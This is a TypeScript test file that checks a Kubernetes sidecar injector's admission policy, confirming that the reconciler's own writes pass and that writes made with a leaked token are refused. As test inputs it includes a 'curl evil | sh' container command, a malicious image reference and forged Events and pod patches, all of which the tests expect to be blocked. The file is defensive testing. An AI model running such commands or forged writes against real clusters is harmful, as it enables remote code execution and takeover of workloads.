// The reconciler's admission fence as synthesized, its CEL run by the policy simulator: each write the
// reconciler makes (made by its own code: the Event recorder, the Lease, the report writer, the probe's
// pod, the restart patch, the in-place JSON Patch and the readiness gate's status patch) is admitted;
// what a leaked token would do with the same RBAC is refused, naming the rule. The rules follow the
// settings as the RBAC does. test/e2e/reconciler-fence.e2e.test.ts shows the same on a real apiserver.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { applyPatch, type Operation } from 'fast-json-patch';
import type { ReconcilerProps, SidecarInjectorProps } from '../../charts/engine';
import { annotationKeys, injectionHash, readinessConditionType, repairedForAnnotation } from '../../webhook/config';
import { inPlacePatch } from '../../webhook/fleet/in-place-plan';
import { podConditionPatch } from '../../webhook/fleet/cluster';
import { EventRecorder } from '../../webhook/reconciler/event-recorder';
import { podFromTemplate } from '../../webhook/reconciler/injection-probe';
import { LeaderLease } from '../../webhook/reconciler/lease';
import { PolicyReportWriter, policyReport } from '../../webhook/reconciler/policy-report';
import { restartPatch } from '../../webhook/reconciler/workload-repairs';
import { type SimulatedPolicy, failedValidations } from '../support/admission-policy-simulator';
import { FakeKube, mergePatch } from '../support/fake-kube';
import { validateManifest } from '../support/openapi-validator';
import { TestClock } from '../support/reconciler-harness';
import { ENVOY_V1, ENVOY_V2, envoyInjection, revisionedProps } from '../support/revision-fixtures';
import { synthChart } from '../support/synth-helpers';

const PREFIX = 'sidecar-injector.io';
const KEYS = annotationKeys(PREFIX);
const USER = 'system:serviceaccount:sidecar-injector:sidecar-injector-reconciler';
const EVIL = 'registry.example/evil:latest';

/** The fence of `reconciler` over Envoy at `image` (other props as given): its policy and binding. */
function fence(reconciler: ReconcilerProps = {}, props: Partial<SidecarInjectorProps> = { injections: [envoyInjection(ENVOY_V2)] }) {
  const { manifests } = synthChart({ ...props, reconciler });
  const named = (kind: string) => manifests.find((object) => object.kind === kind && object.metadata.name === 'sidecar-injector.sidecar-injector-reconciler')!;
  return { policy: named('ValidatingAdmissionPolicy') as unknown as SimulatedPolicy, binding: named('ValidatingAdmissionPolicyBinding'), manifests };
}

interface Write {
  readonly operation: 'CREATE' | 'UPDATE' | 'DELETE';
  /** `group/resource` or `/resource` for the core group, `[/subresource]`. */
  readonly resource: string;
  readonly namespace?: string;
  readonly object: any;
  readonly oldObject?: any;
  readonly dryRun?: boolean;
  readonly username?: string;
}

/** The rule names of the validations that failed: what the apiserver would refuse with (the first). */
function refusedBy(policy: SimulatedPolicy, write: Write): string[] {
  const [group, resource, subResource] = write.resource.split('/');
  const object = write.operation === 'DELETE' ? null : write.object;
  const messages = failedValidations(
    policy,
    {
      kind: { group, version: 'v1', kind: String(write.object?.kind ?? '') },
      resource: { group, version: 'v1', resource },
      subResource,
      operation: write.operation,
      namespace: write.namespace ?? write.object?.metadata?.namespace,
      name: write.object?.metadata?.name,
      userInfo: { username: write.username ?? USER },
      dryRun: write.dryRun ?? false,
      object,
      oldObject: write.oldObject ?? (write.operation === 'DELETE' ? write.object : null),
    },
    object,
  );
  return messages.map((message) => message.split(':')[0]);
}

/** A Deployment (or StatefulSet, DaemonSet) as the apiserver stores it. */
function workload(kind = 'Deployment'): any {
  return {
    apiVersion: 'apps/v1',
    kind,
    metadata: {
      name: 'web',
      namespace: 'apps',
      uid: 'u-web',
      resourceVersion: '4242',
      generation: 3,
      labels: { app: 'web' },
      annotations: { 'deployment.kubernetes.io/revision': '3' },
      managedFields: [{ manager: 'kubectl', operation: 'Update', apiVersion: 'apps/v1' }],
    },
    spec: {
      replicas: 3,
      selector: { matchLabels: { app: 'web' } },
      template: { metadata: { labels: { app: 'web' }, annotations: { team: 'a' } }, spec: { containers: [{ name: 'app', image: 'registry.example/app:1.0', command: ['app'] }] } },
    },
    status: { observedGeneration: 3, replicas: 3, readyReplicas: 3 },
  };
}

/** A pod as the injector admitted it under Envoy `image`, running. */
function injectedPod(image = ENVOY_V1, extra: { status?: string } = {}): any {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name: 'web-abc12',
      namespace: 'apps',
      uid: 'u-pod',
      resourceVersion: '5000',
      labels: { app: 'web', 'pod-template-hash': 'abc' },
      annotations: { [KEYS.status]: extra.status ?? 'envoy', [KEYS.hashes]: `envoy=${injectionHash(envoyInjection(image))}` },
      ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-abc', uid: 'rs', controller: true }],
    },
    spec: {
      readinessGates: [{ conditionType: readinessConditionType(PREFIX) }],
      containers: [
        { name: 'app', image: 'registry.example/app:1.0' },
        { name: 'envoy', image, resources: { requests: { cpu: '50m', memory: '64Mi' } } },
      ],
    },
    status: { phase: 'Running', conditions: [{ type: 'Ready', status: 'True' }], containerStatuses: [{ name: 'app', ready: true }, { name: 'envoy', ready: true }] },
  };
}

/** The in-place upgrade of the pod's Envoy to `to`, as the reconciler patches it. */
function upgraded(pod: any, to: string): any {
  const change = { injection: 'envoy', container: 'envoy', list: 'containers' as const, index: 1, from: pod.spec.containers[1].image, to, nativeSidecar: false };
  return applyPatch(structuredClone(pod), inPlacePatch(pod, { changes: [change], hashesAfter: `envoy=${injectionHash(envoyInjection(to))}` }, PREFIX) as Operation[], true, false).newDocument;
}

const json = (pod: any, operations: Operation[]) => applyPatch(structuredClone(pod), operations, true, false).newDocument;

describe('the reconciler\'s admission fence', () => {
  test('is synthesized beside the reconciler with either backend: schema-valid, Deny, failurePolicy Fail, judging its ServiceAccount alone', () => {
    for (const backend of ['webhook', 'admissionPolicy'] as const) {
      const { policy, binding } = fence({}, { injections: [envoyInjection(ENVOY_V2)], backend });
      assert.deepEqual(validateManifest(policy as any), [], `${backend}: the policy`);
      assert.deepEqual(validateManifest(binding), [], `${backend}: the binding`);
      assert.equal(policy.spec.failurePolicy, 'Fail');
      assert.deepEqual(binding.spec, { policyName: policy.metadata.name, validationActions: ['Deny'] });
      assert.deepEqual(policy.spec.matchConditions, [{ name: 'the-reconciler', expression: `request.userInfo.username == "${USER}"` }]);
      assert.deepEqual(policy.spec.matchConstraints.resourceRules, [{ apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], operations: ['CREATE', 'UPDATE', 'DELETE'], scope: '*' }]);
    }
    // No reconciler, no fence.
    assert.deepEqual(synthChart({ injections: [envoyInjection(ENVOY_V2)] }).manifests.filter((object) => object.kind.startsWith('ValidatingAdmissionPolicy')), []);
    // Anyone else's writes are not its business: the same real pod create by another ServiceAccount.
    const { policy } = fence();
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'x', namespace: 'apps' }, spec: { containers: [{ name: 'app', image: EVIL }] } };
    assert.deepEqual(refusedBy(policy, { operation: 'CREATE', resource: '/pods', object: pod, username: 'system:serviceaccount:apps:default' }), []);
    assert.deepEqual(refusedBy(policy, { operation: 'CREATE', resource: '/pods', object: pod }), ['dry-run-pods-only'], 'the control: its own is refused');
  });

  test('admits each write the reconciler makes, made by its own code', async () => {
    const { policy } = fence({ outdated: 'in-place' });
    // Its Event recorder, Lease and report writer against the in-memory apiserver, with the fence enforced.
    const kube = new FakeKube(() => {
      throw new Error('no pod is admitted here');
    });
    kube.served.add('wgpolicyk8s.io/v1alpha2');
    kube.fence = { policy, username: USER };
    const clock = new TestClock();
    const events = new EventRecorder(kube, clock, 'sidecar-injector-reconciler-0');
    assert.equal(await events.record({ apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'apps', name: 'web' }, 'Normal', 'RestartedForSidecars', 'restarted to add envoy'), true);
    const lease = new LeaderLease(kube, clock, { namespace: 'sidecar-injector', name: 'sidecar-injector-reconciler', identity: 'sidecar-injector-reconciler-0', durationSeconds: 15 });
    assert.equal(await lease.tryAcquireOrRenew(), true, 'created');
    clock.advance(5000);
    assert.equal(await lease.tryAcquireOrRenew(), true, 'renewed');
    await lease.release();
    const reports = new PolicyReportWriter(kube);
    const workloadStatus = (missing: number) => ({ namespace: 'apps', kind: 'Deployment', name: 'web', pods: 1, upToDate: 1 - missing, outdated: 0, missing, noLongerConfigured: 0, versionUnknown: 0, findings: [], ignoredOverrides: [] });
    assert.equal(await reports.write(policyReport('apps', [], { workloads: [workloadStatus(1)] } as any, clock.now())), true, 'created');
    assert.equal(await reports.write(policyReport('apps', [], { workloads: [workloadStatus(0)] } as any, clock.now())), true, 'updated');
    assert.deepEqual(kube.forbidden, []);
    assert.deepEqual(kube.requests.filter((request) => request.verb !== 'get').map((request) => `${request.verb} ${request.resource}`), ['create events', 'create leases', 'update leases', 'update leases', 'create policyreports', 'update policyreports']);

    // The probe: a server-side dry run of the template's pod.
    const probe = podFromTemplate('apps', 'web', workload().spec.template);
    assert.deepEqual(refusedBy(policy, { operation: 'CREATE', resource: '/pods', namespace: 'apps', object: probe, dryRun: true }), []);
    // The restart, of each kind (and `kubectl rollout restart`'s patch, restartedAt alone).
    for (const kind of ['Deployment', 'StatefulSet', 'DaemonSet']) {
      const stored = workload(kind);
      const restarted = mergePatch(stored, restartPatch(stored, clock.now(), PREFIX, 'bfa8ca43a1359a6f'));
      assert.equal(restarted.spec.template.metadata.annotations[repairedForAnnotation(PREFIX)], 'bfa8ca43a1359a6f');
      assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: `apps/${kind.toLowerCase()}s`, object: { ...restarted, metadata: { ...restarted.metadata, generation: 4 } }, oldObject: stored }), [], kind);
    }
    const stored = workload();
    const kubectlRestart = mergePatch(stored, { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-28T12:00:00Z' } } } } });
    assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: 'apps/deployments', object: kubectlRestart, oldObject: stored }), []);
    // In place: the guarded JSON Patch of Envoy's image, and the readiness gate's condition.
    const pod = injectedPod();
    assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: '/pods', object: upgraded(pod, ENVOY_V2), oldObject: pod }), []);
    for (const status of ['False', 'True'] as const) {
      const condition = podConditionPatch({ type: readinessConditionType(PREFIX), status, reason: 'SidecarUpgrade', message: 'x' }).status.conditions[0];
      const gated = { ...pod, status: { ...pod.status, conditions: [...pod.status.conditions.filter((c: any) => c.type !== condition.type), condition] } };
      assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: '/pods/status', object: gated, oldObject: pod }), [], status);
    }
  });

  test('refuses what a leaked token would do with the same RBAC, naming the rule', () => {
    const { policy } = fence({ outdated: 'in-place' });
    const refused = (write: Write) => refusedBy(policy, write);
    const probe = podFromTemplate('apps', 'web', workload().spec.template);
    assert.deepEqual(refused({ operation: 'CREATE', resource: '/pods', object: probe }), ['dry-run-pods-only'], 'a real pod');
    const stored = workload();
    const changed = (patch: object) => refused({ operation: 'UPDATE', resource: 'apps/deployments', object: mergePatch(stored, patch), oldObject: stored });
    const restart = { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-28T12:00:00Z' } } } } };
    const withContainer = (container: object) => ({ spec: { template: { spec: { containers: [{ ...stored.spec.template.spec.containers[0], ...container }] } } } });
    assert.deepEqual(changed(withContainer({ image: EVIL })), ['restart-annotations-only'], 'a workload image change');
    assert.deepEqual(changed(mergePatch(restart, withContainer({ command: ['sh', '-c', 'curl evil | sh'] }))), ['restart-annotations-only'], 'a command change, beside a restart');
    assert.deepEqual(changed({ spec: { template: { metadata: { labels: { app: 'web', extra: 'x' } } } } }), ['restart-annotations-only'], 'a template label');
    assert.deepEqual(changed({ spec: { template: { metadata: { annotations: { team: 'b' } } } } }), ['restart-annotations-only'], 'another template annotation');
    assert.deepEqual(changed({ spec: { replicas: 0 } }), ['restart-annotations-only'], 'scaled to 0');
    assert.deepEqual(changed({ metadata: { labels: { app: 'web', owner: 'evil' } } }), ['restart-annotations-only'], 'the workload\'s own label');
    assert.deepEqual(changed({ spec: { template: { spec: { serviceAccountName: 'admin' } } } }), ['restart-annotations-only'], 'another ServiceAccount');
    const coredns = { ...workload(), metadata: { ...workload().metadata, name: 'coredns', namespace: 'kube-system' } };
    const restartedCoredns = mergePatch(coredns, restartPatch(coredns, 0, PREFIX, 'k'));
    assert.deepEqual(refused({ operation: 'UPDATE', resource: 'apps/deployments', object: restartedCoredns, oldObject: coredns }), ['excluded-namespaces'], 'a restart in kube-system, which it never judges');
    const ownEvent = { apiVersion: 'v1', kind: 'Event', metadata: { name: 'x.2', namespace: 'sidecar-injector' }, involvedObject: { kind: 'Pod', namespace: 'sidecar-injector', name: 'x' }, source: { component: 'sidecar-injector-reconciler' }, reportingComponent: 'sidecar-injector-reconciler' };
    assert.deepEqual(refused({ operation: 'CREATE', resource: '/events', object: ownEvent }), ['excluded-namespaces'], 'an Event in its own namespace');

    const pod = injectedPod();
    const inPlace = (object: any, oldObject = pod) => refused({ operation: 'UPDATE', resource: '/pods', object, oldObject });
    assert.deepEqual(inPlace(json(pod, [{ op: 'replace', path: '/spec/containers/0/image', value: EVIL }])), ['sidecar-images-only'], 'an app container\'s image in place');
    assert.deepEqual(inPlace(upgraded(pod, EVIL)), ['sidecar-images-only'], 'Envoy to an image the configuration does not give it');
    const current = injectedPod(ENVOY_V2);
    assert.deepEqual(inPlace(upgraded(current, ENVOY_V1), current), ['sidecar-images-only'], 'Envoy back to an image no longer configured');
    const bare = injectedPod(ENVOY_V1, { status: 'other' });
    assert.deepEqual(inPlace(upgraded(bare, ENVOY_V2), bare), ['sidecar-images-only'], 'a container named envoy the pod\'s injections did not add');
    assert.deepEqual(inPlace(json(upgraded(pod, ENVOY_V2), [{ op: 'add', path: '/metadata/labels/team', value: 'evil' }])), ['sidecar-images-only'], 'a label beside the upgrade');
    assert.deepEqual(inPlace(json(pod, [{ op: 'replace', path: `/metadata/annotations/${KEYS.status.replace('/', '~1')}`, value: 'envoy,evil' }])), ['sidecar-images-only'], 'the status annotation');
    assert.deepEqual(inPlace(json(pod, [{ op: 'add', path: `/metadata/annotations/${KEYS.revision.replace('/', '~1')}`, value: 'r9' }])), ['sidecar-images-only'], 'a revision nobody serves');
    assert.deepEqual(inPlace(json(pod, [{ op: 'add', path: '/spec/activeDeadlineSeconds', value: 1 }])), ['sidecar-images-only'], 'a deadline that kills the pod');
    assert.deepEqual(inPlace(json(pod, [{ op: 'add', path: '/metadata/finalizers', value: ['evil'] }])), ['sidecar-images-only'], 'a finalizer');
    const ready = { ...pod, status: { ...pod.status, conditions: [{ type: 'Ready', status: 'False' }] } };
    assert.deepEqual(refused({ operation: 'UPDATE', resource: '/pods/status', object: ready, oldObject: pod }), ['readiness-gate-only'], 'the Ready condition');

    const event = { apiVersion: 'v1', kind: 'Event', metadata: { name: 'x.1', namespace: 'apps' }, involvedObject: { kind: 'Pod', namespace: 'apps', name: 'web-abc12' }, reason: 'Killing', message: 'x', source: { component: 'kubelet' }, reportingComponent: 'kubelet' };
    assert.deepEqual(refused({ operation: 'CREATE', resource: '/events', object: event }), ['own-events-only'], 'an Event as the kubelet');
    const halfForged = { ...event, source: { component: 'sidecar-injector-reconciler' } };
    assert.deepEqual(refused({ operation: 'CREATE', resource: '/events', object: halfForged }), ['own-events-only'], 'an Event reported by the kubelet');
    const lease = { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'kube-controller-manager', namespace: 'sidecar-injector' }, spec: {} };
    assert.deepEqual(refused({ operation: 'CREATE', resource: 'coordination.k8s.io/leases', object: lease }), ['own-lease-only'], 'another Lease');
    const report = { apiVersion: 'wgpolicyk8s.io/v1alpha2', kind: 'PolicyReport', metadata: { name: 'kyverno', namespace: 'apps' } };
    assert.deepEqual(refused({ operation: 'CREATE', resource: 'wgpolicyk8s.io/policyreports', object: report }), ['own-policy-reports-only'], 'another report');
    assert.deepEqual(refused({ operation: 'DELETE', resource: '/pods', object: pod }), ['no-other-writes'], 'a delete');
    assert.deepEqual(refused({ operation: 'CREATE', resource: '/secrets', object: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 's', namespace: 'apps' } } }), ['no-other-writes'], 'a Secret');
    assert.deepEqual(refused({ operation: 'CREATE', resource: '/pods/eviction', object: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'web-abc12', namespace: 'apps' } } }), ['no-other-writes'], 'an eviction');
    assert.deepEqual(refused({ operation: 'UPDATE', resource: 'batch/jobs', object: { metadata: {}, spec: {} }, oldObject: { metadata: {}, spec: {} } }), ['no-other-writes'], 'a Job');
  });

  test('follows the settings as the RBAC does: report-only writes no pod or workload; in-place alone updates pods', () => {
    const stored = workload();
    const restarted = mergePatch(stored, restartPatch(stored, 0, PREFIX, 'k'));
    const probe = podFromTemplate('apps', 'web', stored.spec.template);
    const pod = injectedPod();
    const writes: Record<string, Write> = {
      probe: { operation: 'CREATE', resource: '/pods', object: probe, dryRun: true },
      restart: { operation: 'UPDATE', resource: 'apps/deployments', object: restarted, oldObject: stored },
      inPlace: { operation: 'UPDATE', resource: '/pods', object: upgraded(pod, ENVOY_V2), oldObject: pod },
      report: { operation: 'CREATE', resource: 'wgpolicyk8s.io/policyreports', object: policyReport('apps', [], { workloads: [] } as any, 0) },
    };
    const outcome = (reconciler: ReconcilerProps) => {
      const { policy } = fence(reconciler);
      return Object.fromEntries(Object.entries(writes).map(([name, write]) => [name, refusedBy(policy, write)]));
    };
    const refused = ['no-other-writes'];
    assert.deepEqual(outcome({ missing: 'report', outdated: 'report' }), { probe: refused, restart: refused, inPlace: refused, report: [] });
    assert.deepEqual(outcome({}), { probe: [], restart: [], inPlace: refused, report: [] });
    assert.deepEqual(outcome({ outdated: 'restart', policyReports: false }), { probe: [], restart: [], inPlace: refused, report: refused });
    assert.deepEqual(outcome({ outdated: 'in-place' }), { probe: [], restart: [], inPlace: [], report: [] });
  });

  test('with revisions: a pod moves in place to another served revision\'s image and name, never to one nobody serves', () => {
    const { policy } = fence({ outdated: 'in-place' }, revisionedProps());
    const pod = injectedPod(ENVOY_V1);
    pod.metadata.annotations[KEYS.revision] = 'r1';
    const toR2 = json(upgraded(pod, ENVOY_V2), [{ op: 'replace', path: `/metadata/annotations/${KEYS.revision.replace('/', '~1')}`, value: 'r2' }]);
    assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: '/pods', object: toR2, oldObject: pod }), []);
    const toR9 = json(toR2, [{ op: 'replace', path: `/metadata/annotations/${KEYS.revision.replace('/', '~1')}`, value: 'r9' }]);
    assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: '/pods', object: toR9, oldObject: pod }), ['sidecar-images-only']);
  });

  test('an image with a placeholder is never allowed in place (such pods are restarted instead)', () => {
    const templated = { ...envoyInjection(ENVOY_V2), containers: [{ ...envoyInjection(ENVOY_V2).containers![0], image: 'envoyproxy/envoy:{{annotation}}' }], trigger: { type: 'annotation' as const, key: 'envoy-version' } };
    const { policy } = fence({ outdated: 'in-place' }, { injections: [templated] });
    assert.match(JSON.stringify(policy.spec.variables), /"expression":"\{\}"/, 'no image for it in the policy');
    const pod = injectedPod();
    assert.deepEqual(refusedBy(policy, { operation: 'UPDATE', resource: '/pods', object: upgraded(pod, ENVOY_V2), oldObject: pod }), ['sidecar-images-only']);
  });
});
